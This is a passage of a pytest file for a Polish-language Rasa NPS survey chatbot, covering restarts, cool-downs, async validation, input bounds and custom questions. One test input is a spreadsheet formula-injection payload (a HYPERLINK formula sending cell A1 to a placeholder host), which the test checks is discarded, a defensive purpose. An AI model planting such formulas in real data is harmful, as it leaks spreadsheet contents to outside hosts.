            "nie, dzięki", intent="deny", requested_slot="extra_comment", active_loop="comment_form"
        ),
    )
    assert slot_events(events) == {"extra_comment": None, "requested_slot": None}
    _, messages = run(ActionSaveComment(), tracker_for(slots={"extra_comment": None}))
    assert responses(messages) == ["utter_goodbye"]


def test_a_new_session_keeps_only_the_cool_down():
    events, _ = run(
        ActionSessionStart(), tracker_for(slots={"last_survey_at": 123.0, "nps_score": 5})
    )
    assert [e["event"] for e in events] == ["session_started", "slot", "action"]
    assert slot_events(events) == {"last_survey_at": 123.0}


def test_restart_starts_the_survey_again():
    events, messages = run(ActionRestart(), tracker_for("/restart", intent="restart"))
    assert [e["event"] for e in events] == ["restart", "followup"]
    assert events[1]["name"] == "action_start_survey"
    assert responses(messages) == ["utter_restarting"]


def test_restart_keeps_the_cool_down():
    # /restart is anyone's to type: it must not let a finished survey's
    # customer score again at once.
    tracker = tracker_for("/restart", intent="restart", slots={"last_survey_at": 123.0})
    events, _ = run(ActionRestart(), tracker)
    assert [e["event"] for e in events] == ["restart", "slot", "followup"]
    assert slot_events(events) == {"last_survey_at": 123.0}


# --- hostile input (issue 9) -----------------------------------------------------


def test_every_answer_is_validated_off_the_event_loop(monkeypatch):
    """A slow parse runs in a worker thread, so other conversations go on."""
    import actions.survey_form as survey_form

    threads = []
    real = survey_form.parse_score

    def parse(text):
        threads.append(threading.current_thread())
        return real(text)

    monkeypatch.setattr(survey_form, "parse_score", parse)
    events, _ = validate("9", "nps_score", intent="give_score")
    assert slot_events(events)["nps_score"] == 9
    assert threads and threading.main_thread() not in threads
    for name in dir(FORM):
        if name.startswith("validate_") and name != "validate":
            assert asyncio.iscoroutinefunction(getattr(FORM, name)), name


def test_a_slow_validation_does_not_hold_up_another_conversation(monkeypatch):
    import actions.survey_form as survey_form

    release = threading.Event()
    real = survey_form.parse_score

    def slow_parse(text):
        if text == "slow":
            release.wait(10)
        return real(text)

    monkeypatch.setattr(survey_form, "parse_score", slow_parse)

    def tracker(text):
        return tracker_for(
            text, requested_slot="nps_score", active_loop="survey_form", intent="give_score"
        )

    async def both():
        slow = asyncio.create_task(FORM.run(CollectingDispatcher(), tracker("slow"), domain()))
        fast = await asyncio.wait_for(
            FORM.run(CollectingDispatcher(), tracker("7"), domain()), timeout=5
        )
        done_before = slow.done()
        release.set()
        await slow
        return fast, done_before

    fast, slow_was_done = asyncio.run(both())
    assert slot_events(fast)["nps_score"] == 7
    assert not slow_was_done  # the other customer's turn finished while this one waited


@pytest.mark.parametrize(
    "raw, stored",
    [
        ("Store", "store"),
        ('=HYPERLINK("https://x/?"&A1,"klik")', None),
        ("x" * 300, None),
    ],
)
def test_the_touchpoint_comes_only_cleaned_from_a_start_payload(raw, stored):
    touchpoint = [{"entity": "touchpoint", "value": raw, "start": 6, "end": 6 + len(raw)}]
    events, _ = run(ActionStartSurvey(), tracker_for("/start", intent="start", entities=touchpoint))
    assert slot_events(events).get("touchpoint") == stored


def test_a_touchpoint_typed_with_another_intent_is_ignored():
    touchpoint = [{"entity": "touchpoint", "value": "store", "start": 0, "end": 5}]
    events, _ = run(
        ActionStartSurvey(), tracker_for("/give_score", intent="give_score", entities=touchpoint)
    )
    assert "touchpoint" not in slot_events(events)
    # Mid-survey the form keeps only what it validated: no touchpoint slot.
    events, _ = validate(
        '/give_score{"touchpoint": "store"}', "nps_score", intent="give_score", entities=touchpoint
    )
    assert "touchpoint" not in slot_events(events)


def test_stored_answers_are_bounded(setting):
    setting("NPS_MAX_MESSAGE_CHARS", "100")
    long = "kurier zgubił paczkę " * 50
    events, _ = validate(long, "reason", slots=DETRACTOR)
    assert 0 < len(slot_events(events)["reason"]) <= 100
    events, _ = validate("3, bo " + long, "nps_score", intent="give_score")
    assert slot_events(events)["nps_score"] == 3
    assert 0 < len(slot_events(events)["reason"]) <= 100
    events, _ = run(ActionNpsFallback(), tracker_for(long, slots={"survey_allowed": True}))
    assert 0 < len(slot_events(events)["extra_comment"]) <= 100


def test_the_why_chain_never_grows_past_max_whys(setting):
    setting("NPS_MAX_WHYS", "3")
    before = ["a", "b", "c"]  # already full, e.g. from an older setting
    tracker = tracker_for(
        "bo inflacja",
        requested_slot="why_answer",
        active_loop="survey_form",
        slots={**DETRACTOR, "why_chain": before},
    )
    result = asyncio.run(
        FORM.validate_why_answer("bo inflacja", CollectingDispatcher(), tracker, domain())
    )
    assert result["why_chain"] == before
    assert (result["why_stop"], result["why_depth"]) == ("limit", 3)


def shortened(tracker, said_already: bool = False):
    """The tracker as Rasa sends it after a channel cut the message."""
    tracker.latest_message["metadata"] = {"shortened": True}
    tracker.events[-1]["metadata"] = {"shortened": True}
    if said_already:
        tracker.events.append(
            {"event": "bot", "text": "...", "metadata": {"utter_action": "utter_message_shortened"}}
        )
    return tracker


def test_a_shortened_message_is_noted_then_answered():
    tracker = shortened(
        tracker_for("9", intent="give_score", requested_slot="nps_score", active_loop="survey_form")
    )
    events, messages = run(FORM, tracker)
    assert responses(messages)[0] == "utter_message_shortened"
    assert slot_events(events)["nps_score"] == 9  # the cut text is answered as usual

    events, messages = run(ActionStartSurvey(), shortened(tracker_for("cześć", intent="greet")))
    assert responses(messages) == ["utter_message_shortened", "utter_intro"]

    _, messages = run(
        ActionNpsFallback(), shortened(tracker_for("x y z w", slots={"survey_allowed": True}))
    )
    assert responses(messages) == ["utter_message_shortened", "utter_comment_thanks"]


def test_the_shortened_note_is_said_once_per_message():
    tracker = shortened(
        tracker_for(
            "9", intent="give_score", requested_slot="nps_score", active_loop="survey_form"
        ),
        said_already=True,
    )
    _, messages = run(FORM, tracker)
    assert "utter_message_shortened" not in responses(messages)


def test_a_message_that_was_not_cut_gets_no_note():
    tracker = tracker_for(
        "9", intent="give_score", requested_slot="nps_score", active_loop="survey_form"
    )
    tracker.latest_message["metadata"] = {"shortened": "yes"}  # only our channels' True counts
    _, messages = run(FORM, tracker)
    assert "utter_message_shortened" not in responses(messages)


def test_a_school_mark_is_asked_again_on_the_0_to_10_scale_and_its_praise_kept():
    """ "obsługa na piątkę z plusem": a mark of 1-6 is not a 0-10 score, so none
    is stored and the bot asks its school-grade question; the praise is kept."""
    events, messages = validate(
        "obsługa na piątkę z plusem",
        "nps_score",
        entities=[entity("staff", "pos", "obsługa")],
    )
    slots = slot_events(events)
    assert slots["nps_score"] is None and slots["clarify_count"] == 1
    assert slots["reason"] == "obsługa na piątkę z plusem"
    assert slots["drivers"] == ["staff:pos"]
    assert responses(messages) == ["utter_score_school_grade"]


# --- the trainers' own questions (data/survey_paths.yml "questions") ---------------


@pytest.fixture
def own_questions(setting, tmp_path, monkeypatch):
    """The fixture data with three own questions on the passives' path."""
    data = tmp_path / "data"
    shutil.copytree(FIXTURE_DATA, data)
    paths = data / "survey_paths.yml"
    text = paths.read_text(encoding="utf-8")
    text = text.replace(
        "passive: [reason, whys, improvement]",
        "passive: [reason, whys, improvement, returns_ok, rate_app, whom]",
    ).replace(
        "questions: []",
        "questions:\n"
        "  - {id: returns_ok, answer: yes_no}\n"
        "  - {id: rate_app, answer: score}\n"
        "  - {id: whom, answer: text, polarity: neg}\n",
    )
    paths.write_text(text, encoding="utf-8")
    setting("NPS_DATA_DIR", str(data))
    return {"nps_score": 8, "nps_group": "passive", "reason": "ok", "improvement": "nic"}


def test_own_questions_are_asked_in_order_and_kept_by_kind(own_questions):
    slots = dict(own_questions)
    # "improvement" answered: the form asks the first own question, in its words.
    events, messages = validate("niższe ceny", "improvement", slots={**slots, "improvement": None})
    assert slot_events(events)["requested_slot"] == "survey_answer"
    assert {"response": "utter_ask_returns_ok"}.items() <= messages[-1].items()

    events, messages = validate("tak", "survey_answer", slots=slots)
    written = slot_events(events)
    assert written["survey_answers"] == {"returns_ok": True}
    assert written["survey_answer"] is None and written["requested_slot"] == "survey_answer"
    assert messages[-1]["response"] == "utter_ask_rate_app"

    slots["survey_answers"] = {"returns_ok": True}
    events, messages = validate("dałbym 6", "survey_answer", slots=slots)
    assert slot_events(events)["survey_answers"] == {"returns_ok": True, "rate_app": 6}
    assert messages[-1]["response"] == "utter_ask_whom"

    slots["survey_answers"] = {"returns_ok": True, "rate_app": 6}
    events, _ = validate(
        "kurier się spóźnia", "survey_answer", slots=slots, entities=[entity("delivery", "neg")]
    )
    written = slot_events(events)
    assert written["survey_answers"]["whom"] == "kurier się spóźnia"
    assert "delivery:neg" in written["drivers"]
    assert written["requested_slot"] is None  # the path is done


def test_an_unclear_own_answer_is_asked_again_then_given_up_on(own_questions, setting):
    setting("NPS_MAX_CLARIFICATIONS", "2")
    slots = dict(own_questions)
    events, messages = validate("może", "survey_answer", slots=slots)
    assert slot_events(events)["clarify_count"] == 1
    assert responses(messages)[0] == "utter_clarify_yes_no"
    events, _ = validate("może", "survey_answer", slots={**slots, "clarify_count": 1})
    written = slot_events(events)
    assert written["skipped_slots"] == ["returns_ok"]
    assert "returns_ok" not in written  # no slot of its own is ever set
    assert written["requested_slot"] == "survey_answer"  # on to the next own question
